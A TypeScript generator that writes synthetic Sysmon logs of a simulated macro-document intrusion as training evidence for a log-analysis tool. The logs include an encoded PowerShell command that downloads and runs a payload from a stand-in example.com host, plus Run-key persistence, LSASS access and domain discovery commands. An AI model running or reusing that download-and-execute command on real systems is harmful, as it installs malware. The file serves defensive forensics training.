/**
 * The built-in example: a small, realistic intrusion written as Sysmon events in the evtx
 * crate's JSON rendering (one record per line, as `evtx_dump -o jsonl` writes them), so that a
 * newcomer has evidence to analyse on a fresh machine.
 *
 * The story, per host: a user opens a macro document from Downloads; Word starts a shell; the
 * shell starts an encoded PowerShell that resolves and contacts a download server, writes a
 * payload to AppData and runs it; the payload persists through a Run key, resolves its command
 * server and calls home over HTTPS every minute or so, reads LSASS memory and runs discovery
 * commands. Around it, ordinary activity: browsers resolving sites, services loading DLLs.
 *
 * Names and addresses are reserved for documentation (example.com/.net, 192.0.2.0/24,
 * 198.51.100.0/24, 203.0.113.0/24), so the example can never point at anybody real.
 *
 * It doubles as a load generator: any number of hosts and events, deterministic for a seed.
 */
import { createWriteStream, mkdirSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { once } from 'node:events';

export interface GenerateOptions {
  /** Hosts to simulate (each gets the intrusion; default 1). */
  hosts?: number;
  /** Approximate number of events in all (background activity fills the gap; default: the story only). */
  events?: number;
  seed?: number;
  /** Start of the story (epoch ms). */
  start?: number;
}

const SYSMON_GUID = '5770385F-C22A-43E0-BF4C-06F5698FFBD9';

/** Small, fast, seedable PRNG (mulberry32). */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function hex(r: () => number, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += Math.floor(r() * 16).toString(16);
  return s.toUpperCase();
}

function utc(ms: number): string {
  return new Date(ms).toISOString().replace('T', ' ').replace('Z', '');
}

interface Proc {
  guid: string;
  pid: number;
  image: string;
  cmd: string;
  user: string;
}

class HostStory {
  private record = 1;
  private t: number;
  readonly lines: string[] = [];
  private readonly r: () => number;
  private readonly guidPrefix: string;

  constructor(private readonly host: string, start: number, seed: number) {
    this.t = start;
    this.r = rng(seed);
    this.guidPrefix = hex(this.r, 8);
  }

  private guid(): string {
    return `{${this.guidPrefix}-${hex(this.r, 4)}-${hex(this.r, 4)}-${hex(this.r, 4)}-${hex(this.r, 12)}}`;
  }

  proc(image: string, cmd: string, user: string, pid?: number): Proc {
    return { guid: this.guid(), pid: pid ?? 4 * (250 + Math.floor(this.r() * 15000)), image, cmd, user };
  }

  advance(ms: number): void {
    this.t += ms;
  }

  emit(eventId: number, data: Record<string, unknown>, task = eventId): void {
    const time = this.t;
    const rec = {
      Event: {
        '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
        System: {
          Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon', Guid: SYSMON_GUID } },
          EventID: eventId,
          Version: 5,
          Level: 4,
          Task: task,
          Opcode: 0,
          Keywords: '0x8000000000000000',
          TimeCreated: { '#attributes': { SystemTime: new Date(time).toISOString().replace('Z', '000Z') } },
          EventRecordID: this.record++,
          Correlation: null,
          Execution: { '#attributes': { ProcessID: 3012, ThreadID: 4100 } },
          Channel: 'Microsoft-Windows-Sysmon/Operational',
          Computer: this.host,
          Security: { '#attributes': { UserID: 'S-1-5-18' } },
        },
        EventData: { RuleName: '-', UtcTime: utc(time), ...data },
      },
    };
    this.lines.push(JSON.stringify(rec));
  }

  start(p: Proc, parent: Proc, extra: Record<string, unknown> = {}): void {
    this.emit(1, {
      ProcessGuid: p.guid,
      ProcessId: p.pid,
      Image: p.image,
      FileVersion: '-',
      Description: '-',
      Product: '-',
      Company: '-',
      OriginalFileName: p.image.split('\\').pop(),
      CommandLine: p.cmd,
      CurrentDirectory: 'C:\\Users\\alice\\',
      User: p.user,
      LogonGuid: `{${this.guidPrefix}-0000-0000-0000-000000000001}`,
      LogonId: '0x3e7a1',
      TerminalSessionId: 1,
      IntegrityLevel: 'Medium',
      Hashes: `MD5=${hex(this.r, 32)},SHA256=${hex(this.r, 64)},IMPHASH=${hex(this.r, 32)}`,
      ParentProcessGuid: parent.guid,
      ParentProcessId: parent.pid,
      ParentImage: parent.image,
      ParentCommandLine: parent.cmd,
      ParentUser: parent.user,
      ...extra,
    });
  }

  dns(p: Proc, name: string, ips: string[]): void {
    this.emit(22, {
      ProcessGuid: p.guid,
      ProcessId: p.pid,
      QueryName: name,
      QueryStatus: 0,
      QueryResults: ips.map((ip) => `::ffff:${ip};`).join(''),
      Image: p.image,
      User: p.user,
    });
  }

  connect(p: Proc, dst: string, port: number, hostname = ''): void {
    this.emit(3, {
      ProcessGuid: p.guid,
      ProcessId: p.pid,
      Image: p.image,
      User: p.user,
      Protocol: 'tcp',
      Initiated: true,
      SourceIsIpv6: false,
      SourceIp: '10.20.30.41',
      SourceHostname: this.host,
      SourcePort: 49152 + Math.floor(this.r() * 16000),
      SourcePortName: '-',
      DestinationIsIpv6: false,
      DestinationIp: dst,
      DestinationHostname: hostname || '-',
      DestinationPort: port,
      DestinationPortName: port === 443 ? 'https' : '-',
    });
  }

  fileCreate(p: Proc, path: string): void {
    this.emit(11, { ProcessGuid: p.guid, ProcessId: p.pid, Image: p.image, TargetFilename: path, CreationUtcTime: utc(this.t), User: p.user });
  }

  regSet(p: Proc, key: string, details: string): void {
    this.emit(13, { EventType: 'SetValue', ProcessGuid: p.guid, ProcessId: p.pid, Image: p.image, TargetObject: key, Details: details, User: p.user });
  }

  imageLoad(p: Proc, dll: string): void {
    this.emit(7, {
      ProcessGuid: p.guid, ProcessId: p.pid, Image: p.image, ImageLoaded: dll, FileVersion: '10.0.19041.1', Description: '-', Product: '-',
      Company: 'Microsoft Corporation', OriginalFileName: dll.split('\\').pop(), Hashes: `SHA256=${hex(this.r, 64)}`, Signed: true,
      Signature: 'Microsoft Windows', SignatureStatus: 'Valid', User: p.user,
    });
  }

  access(src: Proc, dst: Proc, mask: string): void {
    this.emit(10, {
      SourceProcessGUID: src.guid, SourceProcessId: src.pid, SourceThreadId: 4242, SourceImage: src.image,
      TargetProcessGUID: dst.guid, TargetProcessId: dst.pid, TargetImage: dst.image, GrantedAccess: mask,
      CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(000001D2C3A1B2C3)', SourceUser: src.user, TargetUser: 'NT AUTHORITY\\SYSTEM',
    });
  }

  end(p: Proc): void {
    this.emit(5, { ProcessGuid: p.guid, ProcessId: p.pid, Image: p.image, User: p.user });
  }
}

/** The intrusion on one host. */
function intrusion(s: HostStory, user: string): { system: Proc; explorer: Proc; svchost: Proc } {
  const system: Proc = s.proc('C:\\Windows\\System32\\services.exe', 'C:\\Windows\\system32\\services.exe', 'NT AUTHORITY\\SYSTEM', 712);
  const svchost = s.proc('C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p', 'NT AUTHORITY\\SYSTEM', 1384);
  const lsass = s.proc('C:\\Windows\\System32\\lsass.exe', 'C:\\Windows\\system32\\lsass.exe', 'NT AUTHORITY\\SYSTEM', 724);
  // explorer.exe started before the log began: it appears only as a parent.
  const explorer = s.proc('C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', user, 4120);

  const doc = 'C:\\Users\\alice\\Downloads\\Invoice_2291.docm';
  const word = s.proc('C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${doc}"`, user);
  s.start(word, explorer);
  s.advance(2300);
  s.fileCreate(word, 'C:\\Users\\alice\\Downloads\\~$voice_2291.docm');
  s.advance(4100);
  const payloadUrl = 'https://invoice-portal.example.com/cdn/update.bin';
  const script = `$u='${payloadUrl}';$p="$env:APPDATA\\Microsoft\\OneDriveUpdater.exe";(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process $p`;
  const enc = Buffer.from(script, 'utf16le').toString('base64');
  const cmd = s.proc('C:\\Windows\\System32\\cmd.exe', `C:\\Windows\\system32\\cmd.exe /c powershell.exe -nop -w hidden -enc ${enc}`, user);
  s.start(cmd, word);
  s.advance(180);
  const ps = s.proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', `powershell.exe -nop -w hidden -enc ${enc}`, user);
  s.start(ps, cmd);
  s.advance(900);
  s.imageLoad(ps, 'C:\\Windows\\System32\\winhttp.dll');
  s.advance(300);
  s.dns(ps, 'invoice-portal.example.com', ['203.0.113.45']);
  s.advance(40);
  s.connect(ps, '203.0.113.45', 443, 'invoice-portal.example.com');
  s.advance(2600);
  const payload = 'C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\OneDriveUpdater.exe';
  s.fileCreate(ps, payload);
  s.advance(700);
  const implant = s.proc(payload, `"${payload}"`, user);
  s.start(implant, ps);
  s.advance(1200);
  s.regSet(implant, 'HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdater', payload);
  s.advance(500);
  s.end(ps);
  s.end(cmd);
  s.advance(1500);
  s.dns(implant, 'telemetry.example.net', ['198.51.100.23']);
  // Beacon: every 60 s with a little jitter, a dozen times.
  for (let i = 0; i < 12; i++) {
    s.advance(60000 + Math.round((i % 3) * 400 - 400));
    s.connect(implant, '198.51.100.23', 443, 'telemetry.example.net');
    if (i === 2) {
      s.advance(2000);
      s.access(implant, lsass, '0x1010');
    }
    if (i === 4) {
      for (const [image, args] of [
        ['C:\\Windows\\System32\\whoami.exe', 'whoami /all'],
        ['C:\\Windows\\System32\\net.exe', 'net group "Domain Admins" /domain'],
        ['C:\\Windows\\System32\\nltest.exe', 'nltest /dclist:corp.example.com'],
      ]) {
        s.advance(3000);
        const d = s.proc(image, args, user);
        s.start(d, implant);
        s.advance(400);
        s.end(d);
      }
    }
  }
  return { system, explorer, svchost };
}

const BENIGN_SITES: Array<[string, string]> = [
  ['www.example.com', '192.0.2.10'],
  ['intranet.example.org', '192.0.2.20'],
  ['updates.example.org', '192.0.2.30'],
  ['mail.example.com', '192.0.2.40'],
];

/** Ordinary activity: browsing, service DLL loads, short-lived helpers. */
function background(s: HostStory, ctx: { explorer: Proc; svchost: Proc; system: Proc }, user: string, n: number, r: () => number): void {
  const browser = s.proc('C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', user);
  s.start(browser, ctx.explorer);
  let made = 1;
  while (made < n) {
    s.advance(50 + Math.floor(r() * 3000));
    const k = r();
    if (k < 0.35) {
      const [name, ip] = BENIGN_SITES[Math.floor(r() * BENIGN_SITES.length)];
      s.dns(browser, name, [ip]);
      s.connect(browser, ip, 443, name);
      made += 2;
    } else if (k < 0.7) {
      s.imageLoad(ctx.svchost, `C:\\Windows\\System32\\${['combase.dll', 'rpcrt4.dll', 'bcrypt.dll', 'wintrust.dll'][Math.floor(r() * 4)]}`);
      made++;
    } else if (k < 0.85) {
      s.fileCreate(browser, `C:\\Users\\alice\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\f_${Math.floor(r() * 1e6).toString(16)}`);
      made++;
    } else {
      const helper = s.proc('C:\\Windows\\System32\\conhost.exe', 'C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', user);
      s.start(helper, ctx.svchost);
      s.advance(200);
      s.end(helper);
      made += 2;
    }
  }
}

/**
 * Writes the example as JSON lines to `file`. Returns the number of events written. Hosts are
 * written one after the other, each in time order.
 */
export async function writeExample(file: string, opts: GenerateOptions = {}): Promise<number> {
  const hosts = Math.max(1, opts.hosts ?? 1);
  const seed = opts.seed ?? 20260314;
  const start = opts.start ?? Date.UTC(2026, 2, 14, 9, 12, 0);
  const out = createWriteStream(file);
  let written = 0;
  for (let h = 0; h < hosts; h++) {
    const name = hosts === 1 ? 'WKSTN-07.corp.example.com' : `WKSTN-${String(h + 1).padStart(4, '0')}.corp.example.com`;
    const s = new HostStory(name, start + h * 1000, seed + h);
    const user = 'CORP\\alice';
    const ctx = intrusion(s, user);
    const perHost = opts.events ? Math.max(0, Math.floor(opts.events / hosts) - s.lines.length) : 40;
    const storyLines = s.lines.splice(0);
    const r = rng(seed * 31 + h);
    // Background in chunks so a host's million events never sit in memory at once.
    const chunk = 20000;
    const writeLines = async (lines: string[]) => {
      for (const l of lines) {
        if (!out.write(`${l}\n`)) await once(out, 'drain');
        written++;
      }
    };
    await writeLines(storyLines);
    let left = perHost;
    while (left > 0) {
      const n = Math.min(chunk, left);
      background(s, ctx, user, n, r);
      const lines = s.lines.splice(0);
      left -= lines.length;
      await writeLines(lines);
    }
  }
  out.end();
  await once(out, 'finish');
  return written;
}

/** Writes the example into `dir` (default `./loupe-data/example`) and returns the file's path. */
export async function generateExample(dir = resolve('loupe-data', 'example'), opts: GenerateOptions = {}): Promise<string> {
  mkdirSync(dir, { recursive: true });
  const file = join(dir, 'example-intrusion.sysmon.json');
  await writeExample(file, opts);
  return file;
}
